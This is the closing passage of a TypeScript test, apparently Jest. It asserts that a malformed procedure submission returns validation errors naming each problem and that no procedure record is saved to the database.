    if (malformed.error) expect(details!.errors).toContainEqual(expect.objectContaining(malformed.error));
    // The message names each problem with its path, so an administrator fixes it in one pass.
    for (const error of details!.errors!) expect(answer.body.errors![0].message).toContain(error.message);
    expect(await engine.db.prisma.procedure.findUnique({ where: { code: input.code } })).toBeNull();
  });
});
